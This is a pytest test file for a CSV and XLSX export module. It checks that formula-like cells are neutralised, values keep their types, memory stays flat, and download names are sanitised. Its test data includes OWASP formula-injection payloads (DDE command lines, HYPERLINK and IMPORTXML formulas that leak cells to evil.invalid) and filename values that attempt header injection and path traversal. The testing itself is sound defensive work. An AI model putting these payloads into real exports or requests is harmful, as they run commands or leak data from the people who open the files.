"""CSV and XLSX exports: formula injection neutralised (OWASP payloads), numbers and dates
kept, streamed with flat memory, and served as uncached downloads with a safe name."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import pathlib
import re
import tempfile
import tracemalloc
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import Any

import pytest
from fastapi import FastAPI, Response
from fastapi.testclient import TestClient

from hotline.runtime.exports import (
    Cell,
    ExportFormat,
    csv_chunks,
    download_name,
    export_response,
    safe_cell,
    write_xlsx,
    xlsx_chunks,
)

openpyxl = pytest.importorskip("openpyxl")

# From OWASP's "CSV Injection" page and its references: each would run or call out if a
# spreadsheet evaluated it.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid?leak="&A1&A2, "Error: please click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "\t=1+2",
    "\r=1+2",
    '=IMPORTXML(CONCAT("http://evil.invalid/?v=", CONCATENATE(A2:E2)), "//a")',
    "-",
    "=",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_cell_that_could_be_a_formula_is_quoted(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell == "'" + payload
    # And in the file, read back, it still starts with the quote, not with the formula.
    back = _read(csv_chunks(["text"], [[payload]]))
    assert back[1][0] == "'" + payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Central High", "Central High"),
        ("a=b", "a=b"),  # only the first character makes a formula
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (-5, -5),  # a negative number stays a number
        (2.5, 2.5),
        (True, "yes"),
        (dt.date(2026, 11, 27), "2026-11-27"),
        (dt.datetime(2026, 11, 27, 9, 30, tzinfo=dt.UTC), "2026-11-27T09:30:00+00:00"),
    ],
)
def test_other_cells_are_written_as_they_are(value: Cell, written: object) -> None:
    assert safe_cell(value) == written


def test_headers_commas_quotes_and_line_breaks_survive_a_round_trip() -> None:
    rows: list[Sequence[Cell]] = [["a, b", 'say "hi"', "two\nlines"], ["=1", -3, None]]
    back = _read(csv_chunks(["one", "two", "+three"], rows))
    assert back == [
        ["one", "two", "'+three"],
        ["a, b", 'say "hi"', "two\nlines"],
        ["'=1", "-3", ""],
    ]


def test_rows_are_streamed_not_gathered() -> None:
    produced = 0

    def rows() -> Iterator[Sequence[Cell]]:
        nonlocal produced
        for n in itertools.count():
            produced += 1
            yield [n, "row"]

    chunks = csv_chunks(["n", "what"], rows())
    first = next(chunks)
    # The first chunk leaves after a bounded number of rows, long before an endless source
    # ends: nothing collects them all first.
    assert produced <= 501
    assert first.startswith("\ufeffn,what\r\n".encode())


def _read(chunks: Iterator[bytes]) -> list[list[str]]:
    text = b"".join(chunks).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


# ---------------------------------------------------------------- XLSX

XLSX_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil","x")',
    *OWASP_PAYLOADS,
]


@pytest.mark.parametrize("payload", XLSX_PAYLOADS)
def test_an_xlsx_cell_that_could_be_a_formula_is_inert_text(payload: str) -> None:
    sheet = _xlsx_sheets(xlsx_chunks(["text", payload], [[payload, 1]]))[0]
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    for cell in (header[1], row[0]):
        # A string cell (never a formula), quoted like the CSV so it stays text when edited.
        assert cell.data_type == "s"
        assert _excel_text(cell.value) == "'" + payload


def test_xlsx_numbers_dates_and_text_keep_their_types() -> None:
    row: list[Cell] = [
        -5,
        -2.5,
        0,
        dt.date(2026, 11, 27),
        dt.datetime(2026, 11, 27, 11, 30, tzinfo=dt.timezone(dt.timedelta(hours=2))),
        "Central High",
        "a=b",
        None,
        True,
        "two\nlines",
    ]
    sheet = _xlsx_sheets(xlsx_chunks([f"c{n}" for n in range(len(row))], [row]))[0]
    cells = next(sheet.iter_rows(min_row=2, max_row=2))
    assert [c.value for c in cells] == [
        -5,
        -2.5,
        0,
        # openpyxl reads every Excel date as a naive datetime; the time is in UTC.
        dt.datetime(2026, 11, 27, tzinfo=dt.UTC).replace(tzinfo=None),
        dt.datetime(2026, 11, 27, 9, 30, tzinfo=dt.UTC).replace(tzinfo=None),
        "Central High",
        "a=b",
        None,
        "yes",
        "two\nlines",
    ]
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]  # negative numbers too
    assert (cells[3].is_date, cells[3].number_format) == (True, "yyyy-mm-dd")
    assert (cells[4].is_date, cells[4].number_format) == (True, 'yyyy-mm-dd hh:mm:ss "UTC"')


def test_the_xlsx_header_is_bold_and_frozen() -> None:
    sheet = _xlsx_sheets(xlsx_chunks(["case", "minutes"], [["x", 1]]))[0]
    assert [c.font.b for c in sheet[1]] == [True, True]
    assert [c.font.b for c in sheet[2]] == [False, False]
    assert sheet.freeze_panes == "A2"


def test_an_empty_export_still_has_its_header() -> None:
    sheet = _xlsx_sheets(xlsx_chunks(["case", "minutes"], []))[0]
    assert [[c.value for c in r] for r in sheet.iter_rows()] == [["case", "minutes"]]


def test_rows_past_a_sheets_limit_continue_on_another_sheet() -> None:
    out = io.BytesIO()
    write_xlsx(out, ["n"], ([n] for n in range(5)), rows_per_sheet=2)
    sheets = _xlsx_sheets(iter([out.getvalue()]))
    assert [[c.value for c in r] for s in sheets for r in s.iter_rows()] == [
        ["n"], [0], [1], ["n"], [2], [3], ["n"], [4],
    ]  # fmt: skip


@pytest.mark.parametrize("chunks", [csv_chunks, xlsx_chunks], ids=["csv", "xlsx"])
def test_memory_does_not_grow_with_the_rows(
    chunks: Callable[[Sequence[str], Iterable[Sequence[Cell]]], Iterator[bytes]],
) -> None:
    def peak(rows: int) -> int:
        def source() -> Iterator[Sequence[Cell]]:
            for n in range(rows):  # one cell a row keeps the test quick under tracemalloc
                yield [-n if n % 2 else f"case {n}"]

        tracemalloc.start()
        try:
            size = sum(len(chunk) for chunk in chunks(["n"], source()))
            return tracemalloc.get_traced_memory()[1] if size > rows else 0
        finally:
            tracemalloc.stop()

    small, large = peak(10_000), peak(100_000)
    assert small > 0
    # Ten times the rows, (about) the same peak: nothing holds the rows or the file.
    assert large < small * 1.5 + 64 * 1024, (small, large)
    assert large < 2 * 1024 * 1024


def test_no_file_is_left_behind_even_when_the_rows_fail(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def failing() -> Iterator[Sequence[Cell]]:
        yield ["one"]
        raise RuntimeError("the database went away")

    assert len(b"".join(xlsx_chunks(["n"], [["one"]] * 10))) > 0
    with pytest.raises(RuntimeError):
        b"".join(xlsx_chunks(["n"], failing()))
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------- the response


@pytest.mark.parametrize(
    ("asked", "fmt", "given"),
    [
        ("response_times_2026-11", ExportFormat.CSV, "response_times_2026-11.csv"),
        ("clock rows.xlsx", ExportFormat.XLSX, "clock_rows.xlsx"),
        ('a"; filename=evil.exe', ExportFormat.CSV, "a_filename_evil.exe.csv"),
        ("../../etc/passwd\r\nX-Injected: 1", ExportFormat.XLSX, "etc_passwd_X-Injected_1.xlsx"),
        ("Статистика", ExportFormat.CSV, "export.csv"),
        ("...", ExportFormat.CSV, "export.csv"),
        ("x" * 300, ExportFormat.CSV, "x" * 100 + ".csv"),
    ],
)
def test_the_download_name_is_sanitised(asked: str, fmt: ExportFormat, given: str) -> None:
    assert download_name(asked, fmt) == given


def _export_app() -> FastAPI:
    app = FastAPI()

    @app.get("/export")
    async def export(fmt: ExportFormat, name: str) -> Response:
        rows: list[Sequence[Cell]] = [["=1+1", -3], ["Central High", 4.5]]
        return await export_response(["what", "n"], rows, filename=name, fmt=fmt)

    return app


@pytest.mark.parametrize(
    ("fmt", "media_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_the_response_is_a_download_never_cached(fmt: str, media_type: str) -> None:
    with TestClient(_export_app()) as client:
        answer = client.get("/export", params={"fmt": fmt, "name": 'stats"\r\n.' + fmt})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == media_type
    assert answer.headers["content-disposition"] == f'attachment; filename="stats.{fmt}"'
    assert answer.headers["cache-control"] == "no-store"
    if fmt == "csv":
        assert _read(iter([answer.content])) == [
            ["what", "n"],
            ["'=1+1", "-3"],
            ["Central High", "4.5"],
        ]
    else:
        assert answer.headers["content-length"] == str(len(answer.content))
        sheet = _xlsx_sheets(iter([answer.content]))[0]
        assert [[c.value for c in r] for r in sheet.iter_rows()] == [
            ["what", "n"], ["'=1+1", -3], ["Central High", 4.5],
        ]  # fmt: skip


def _xlsx_sheets(chunks: Iterator[bytes]) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(b"".join(chunks)))
    return list(book.worksheets)


def _excel_text(value: str) -> str:
    # Excel reads _xHHHH_ in a string as that character (ECMA-376 ST_Xstring); openpyxl does
    # not undo it for inline strings, so the test does what Excel would.
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)
